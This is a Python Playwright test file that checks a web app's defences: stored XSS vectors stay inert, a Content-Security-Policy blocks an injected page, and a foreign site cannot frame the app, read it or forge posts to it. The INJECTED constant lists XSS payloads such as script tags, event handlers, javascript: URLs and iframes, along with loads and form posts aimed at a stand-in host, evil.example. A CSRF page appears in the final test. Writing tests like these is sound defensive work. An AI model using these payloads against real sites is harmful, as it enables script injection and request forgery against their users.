"""Items 33 to 40 in a real browser: nothing stored runs, what gets past every filter is stopped by the policy, and nobody frames us."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
import sqlalchemy as sa
from playwright.sync_api import Browser, Page

from fieldsmith.identity import sessions
from fieldsmith.web.auth import SESSION_COOKIE
from fieldsmith.web.content_policy import CSP, INERT
from tests.bad_input.vectors import VECTORS
from tests.browser.conftest import Site

pytestmark = pytest.mark.browser

WATCH = """
window.evil = () => { window.hit = (window.hit || 0) + 1; };
window.alert = window.evil;
window.broken = [];
document.addEventListener("securitypolicyviolation", (event) => window.broken.push(event.effectiveDirective));
"""
EVALUATED = "try { new Function('evil()')() } catch (error) { window.refused = error.name }"
INJECTED = """
<!doctype html><title>a</title><body>
<script>evil()</script><script src="https://evil.example/x.js"></script><script src="data:text/javascript,evil()"></script>
<img src="x" onerror="evil()"><svg onload="evil()"></svg><details open ontoggle="evil()">a</details>
<a id="link" href="javascript:evil()">a</a><iframe srcdoc="<script>parent.evil()</script>"></iframe><iframe src="javascript:parent.evil()"></iframe><iframe src="https://evil.example/"></iframe>
<object data="data:text/html,<script>evil()</script>"></object><embed src="//evil.example/x"><base href="https://evil.example/">
<p style="color: rgb(1, 2, 3)" id="styled">a</p><style>#link { color: rgb(1, 2, 3) }</style><link rel="stylesheet" href="https://evil.example/x.css">
<form id="form" action="https://evil.example/"><input name="a"></form><img src="https://evil.example/pixel.gif">
"""


def watched(site: Site) -> Page:
    """A tab that notes whatever runs or is stopped, from before the first page."""
    page = site.open("/help/expressions")
    page.context.add_init_script(WATCH)
    return page


def served(site: Site, page: Page, path: str, body: str, headers: dict[str, str]) -> None:
    """`path` of the site answers with `body`, as if an attacker had got past everything, under the headers a real page has."""
    page.route(site.url + path, lambda route: route.fulfill(status=200, content_type="text/html; charset=utf-8", headers=headers, body=body))


def ran(page: Page) -> Any:
    page.wait_for_timeout(150)
    return page.evaluate("window.hit || 0")


def vectors() -> list[str]:
    return [vector for vector in VECTORS if "\x00" not in vector and (vector.isprintable() or "\n" in vector)]


def test_nothing_stored_runs_or_is_even_tried(site: Site) -> None:
    id = site.make("account", name="A", description="a")
    site.make_many("account", [{"name": vector[:120], "description": vector} for vector in vectors()])
    page, asked = watched(site), list[str]()
    page.on("request", lambda request: asked.append(request.url))
    for path in (
        "/account/?limit=200&columns=name,description,owner",
        "/search?q=evil",
        f"/account/{id + 40}",
        f"/account/{id + 90}/edit",
        f"/account/{id + 60}/history",
    ):
        asked.clear()
        page.goto(site.url + path)
        assert ran(page) == 0 and page.evaluate("window.broken") == [], path
        assert [url for url in asked if not url.startswith(site.url) and not url.startswith("data:")] == [], path


def test_rich_text_written_past_us_neither_runs_nor_loads(site: Site) -> None:
    id = site.make("note", title="A", body="<p>B</p>")
    with site.workspace.read() as work:
        table, column = work.schema.table("note"), work.schema.columns(work.model.entities["note"].fields["body"])[0]
    page = watched(site)
    for at in range(0, len(vectors()), 40):
        with site.workspace.database.write() as connection:
            connection.execute(sa.update(table).where(table.c.id == id).values({column: "<hr>".join(vectors()[at : at + 40])}))
        page.goto(f"{site.url}/note/{id}")
        assert ran(page) == 0 and page.evaluate("window.broken") == []
        assert (
            page.evaluate("document.querySelectorAll('.rich [style], .rich [id], .rich [class], .rich img, .rich form, .rich svg, .rich iframe').length") == 0
        )
        assert (
            page.evaluate("[...document.querySelectorAll('.rich *')].filter(one => [...one.attributes].some(a => /^(on|hx-|data-)/.test(a.name))).length") == 0
        )


def test_what_gets_past_every_filter_is_stopped_by_the_policy(site: Site, chromium: Browser) -> None:
    with chromium.new_context() as context:
        context.add_init_script(WATCH)
        page, asked = context.new_page(), []
        page.on("request", lambda request: asked.append(request.url))
        served(site, page, "/attack", INJECTED + "<script src=/eval.js></script>", {"Content-Security-Policy": CSP})
        page.route(site.url + "/eval.js", lambda route: route.fulfill(content_type="text/javascript", body=EVALUATED))
        page.goto(site.url + "/attack")
        page.locator("#link").click(force=True)
        page.evaluate("document.querySelector('#form').submit()")
        assert ran(page) == 0
        broken = set(page.evaluate("window.broken"))
        assert {
            "script-src-elem",
            "script-src-attr",
            "style-src-elem",
            "style-src-attr",
            "img-src",
            "base-uri",
            "form-action",
            "frame-src",
            "object-src",
        } <= broken
        assert page.evaluate("getComputedStyle(document.querySelector('#styled')).color") != "rgb(1, 2, 3)"
        assert page.url == site.url + "/attack"
        assert page.evaluate("window.refused") == "EvalError"


def test_without_the_policy_the_attack_would_run(site: Site, chromium: Browser) -> None:
    with chromium.new_context() as context:
        context.add_init_script(WATCH)
        page = context.new_page()
        served(site, page, "/attack", INJECTED, {})
        page.goto(site.url + "/attack")
        assert ran(page) > 0


def test_what_is_no_page_runs_nothing_when_opened_as_one(site: Site, chromium: Browser) -> None:
    with chromium.new_context() as context:
        context.add_init_script(WATCH)
        page = context.new_page()
        served(site, page, "/attack", INJECTED, {"Content-Security-Policy": INERT})
        page.goto(site.url + "/attack")
        assert ran(page) == 0 and page.evaluate("window.origin") == "null"


class _Foreign(BaseHTTPRequestHandler):
    page = ""

    def do_GET(self) -> None:
        body = self.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def foreign() -> Iterator[tuple[str, type[_Foreign]]]:
    """Another site, whose page a test writes."""
    handler = type("Handler", (_Foreign,), {})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://localhost:{server.server_address[1]}/", handler
    server.shutdown()
    thread.join()
    server.server_close()


def signed_in(site: Site, chromium: Browser) -> Page:
    token = site.workspace.write(lambda work: sessions.begin(work.connection, work.now, site.person.id, 1, "127.0.0.1", "test"))
    context = chromium.new_context()
    context.add_cookies([{"name": SESSION_COOKIE, "value": token, "url": site.url, "sameSite": "Lax"}])
    return context.new_page()


def test_another_site_can_neither_frame_nor_read_nor_post(site: Site, chromium: Browser, foreign: tuple[str, type[_Foreign]]) -> None:
    id = site.make("account", name="Private")
    address, handler = foreign
    handler.page = f"""<!doctype html><title>a</title><body><iframe name=f src="{site.url}/account/{id}"></iframe>
      <form id=form method=post action="{site.url}/account/{id}/delete"><input name=csrf_token value=guess></form>
      <script>window.opened = window.open("{site.url}/account/{id}")</script>"""
    page = signed_in(site, chromium)
    page.goto(address)
    page.wait_for_timeout(300)
    assert "Private" not in "".join(frame.content() for frame in page.frames[1:])
    read = f"fetch('{site.url}/api/v1/records/account/{id}', {{credentials: 'include', mode: 'MODE'}}).then(a => a.type, e => 'refused')"
    assert page.evaluate(read.replace("MODE", "cors")) == "refused" and page.evaluate(read.replace("MODE", "no-cors")) == "refused"
    post = f"fetch('{site.url}/account/new', {{method: 'POST', credentials: 'include', mode: 'no-cors', body: new URLSearchParams({{name: 'Forged'}})}})"
    page.evaluate(f"{post}.then(a => a.type, e => 'refused')")
    page.evaluate("document.querySelector('#form').submit()")
    page.wait_for_timeout(300)
    with site.workspace.read() as work:
        kept = work.connection.execute(sa.select(sa.func.count()).select_from(work.schema.table("account")).where(sa.text("deleted_at IS NULL"))).scalar_one()
    assert kept == 1 and site.values("account", id)["name"] == "Private"
    page.context.close()
